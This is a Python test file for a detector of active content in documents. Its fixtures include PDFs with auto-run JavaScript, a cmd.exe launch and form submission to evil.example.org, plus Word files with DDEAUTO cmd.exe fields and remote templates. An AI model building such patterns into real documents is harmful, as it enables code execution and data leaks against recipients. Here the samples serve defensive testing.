"""What a file holds beside its pages is told by kind, however it is written, and nothing is told of an ordinary one."""

from __future__ import annotations

import io
import zipfile

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream, String

from desk.samples.files import samples
from extractors.held import held_in
from mailboxes.media import media_type
from proposals.held import HELD, Held, held_sentence, is_active

PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ODT = "application/vnd.oasis.opendocument.text"
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def pdf(**root: object) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    for key, value in root.items():
        made.Root[f"/{key}"] = value
    return saved(made)


def saved(made: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    made.save(out, **options)
    return out.getvalue()


def action(kind: str, **more: object) -> bytes:
    return pdf(OpenAction=Dictionary(S=Name(f"/{kind}"), **more))


def packed_with_files() -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    made.attachments["a.txt"] = b"text"
    return saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def locked_against_changes() -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    made.Root.OpenAction = SCRIPT
    return saved(
        made,
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
        encryption=pikepdf.Encryption(owner="owner", user=""),
    )


def with_xfa() -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=Stream(made, b"<xdp/>"))
    return saved(made)


def zipped(**parts: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name.replace("__", "/"), text)
    return out.getvalue()


def word(body: str = "", rels: str = "", **parts: str) -> bytes:
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return zipped(
        **{
            "word__document.xml": f"<w:document {space}><w:body>{body}</w:body></w:document>",
            "word___rels__document.xml.rels": f"<Relationships>{rels}</Relationships>",
            **parts,
        }
    )


def related(kind: str, target: str = "https://evil.example.org/x") -> str:
    return f'<Relationship Id="r1" Type="{RELATED}/{kind}" Target="{target}" TargetMode="External"/>'


def order(*codes: str) -> str:
    return "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)


def open_document(content: str, **parts: str) -> bytes:
    return zipped(mimetype=ODT, **{"content.xml": f"<x>{content}</x>", **parts})


FILES = {
    "a script at opening": (pdf(OpenAction=SCRIPT), PDF, {Held.SCRIPT}),
    "a script in a name that is written in numbers": (pdf(OpenAction=SCRIPT).replace(b"/JavaScript", b"/J#61vaScript"),
                                                       PDF, {Held.SCRIPT}),
    "a script in a file locked against changes": (locked_against_changes(), PDF, {Held.SCRIPT}),
    "a program": (action("Launch", F=String("cmd.exe")), PDF, {Held.LAUNCH}),
    "answers sent elsewhere": (action("SubmitForm", F=String("https://evil.example.org")), PDF, {Held.SENDS}),
    "files within, packed": (packed_with_files(), PDF, {Held.EMBEDDED}),
    "a film": (action("Rendition"), PDF, {Held.RICH_MEDIA}),
    "Adobe's form": (with_xfa(), PDF, {Held.XFA}),
    "a link": (action("URI", URI=String("https://example.org")), PDF, {Held.LINKS}),
    "another file": (action("GoToR", F=String("other.pdf")), PDF, {Held.LINKS}),
    "Word macros": (word(**{"word__vbaProject.bin": "x"}), DOCX, {Held.MACROS}),
    "a Word object": (word(**{"word__embeddings__oleObject1.bin": "x"}), DOCX, {Held.EMBEDDED}),
    "a template from elsewhere": (word(rels=related("attachedTemplate")), DOCX, {Held.TEMPLATE}),
    "a picture from elsewhere": (word(rels=related("image")), DOCX, {Held.EXTERNAL}),
    "a link in Word": (word(rels=related("hyperlink")), DOCX, {Held.LINKS}),
    "a part in another format": (word(rels=related("aFChunk")), DOCX, {Held.EMBEDDED, Held.EXTERNAL}),
    "DDE": (word(order("DDEAUTO c:\\\\cmd.exe")), DOCX, {Held.FETCHING_FIELDS}),
    "DDE in pieces": (word(order("DD", "EAUTO c:\\\\cmd.exe")), DOCX, {Held.FETCHING_FIELDS}),
    "ActiveX": (word(**{"word__activeX__activeX1.xml": "<x/>"}), DOCX, {Held.ACTIVE_BOXES}),
    "OpenDocument macros": (open_document("", **{"Basic__Standard__Module1.xml": "<x/>"}), ODT, {Held.MACROS}),
    "OpenDocument listeners": (open_document("<script:event-listener/>"), ODT, {Held.SCRIPT}),
    "OpenDocument from elsewhere": (open_document('<draw:image xlink:href="https://evil.example.org/x.png"/>'), ODT,
                                    {Held.EXTERNAL}),
    "RTF object": (b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "application/rtf", {Held.EMBEDDED}),
    "RTF template": (b"{\\rtf1{\\*\\template http://evil.example.org/x}}", "application/rtf", {Held.TEMPLATE}),
    "old Word macros": ("_VBA_PROJECT".encode("utf-16-le"), "application/x-ole-storage", {Held.MACROS}),
    "HTML": (b"<html><script>x</script>", "text/html", {Held.SCRIPT}),
}  # fmt: skip


@pytest.mark.parametrize("case", list(FILES))
def test_what_a_file_holds_is_told_by_kind(case):
    data, kind, expected = FILES[case]
    assert set(held_in(data, kind)) == expected


@pytest.mark.parametrize("name", sorted(samples()))
def test_an_ordinary_file_holds_nothing_active(name):
    data = samples()[name].data
    assert not is_active(held_in(data, media_type(data)))


@pytest.mark.parametrize("kind", [PDF, DOCX, ODT, "application/rtf", "application/x-ole-storage", "text/html"])
@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"%PDF-1.7 /ObjStm /Encrypt stream\nx", bytes(5000)])
def test_nothing_is_raised_whatever_the_bytes(data, kind):
    assert isinstance(held_in(data, kind), tuple)


def test_the_sentence_names_everything_and_what_became_of_it():
    said = held_sentence((Held.SCRIPT, Held.EMBEDDED, Held.LAUNCH), passed_on=False)
    assert said == (
        "The file held a script, other files inside it and an order to start a program. "
        "Nothing of that was run or opened, and nothing of that is passed on."
    )
    assert "passed on" not in held_sentence((Held.SCRIPT,), passed_on=True)
    assert held_sentence((), passed_on=False) == ""
    assert set(HELD) == set(Held)
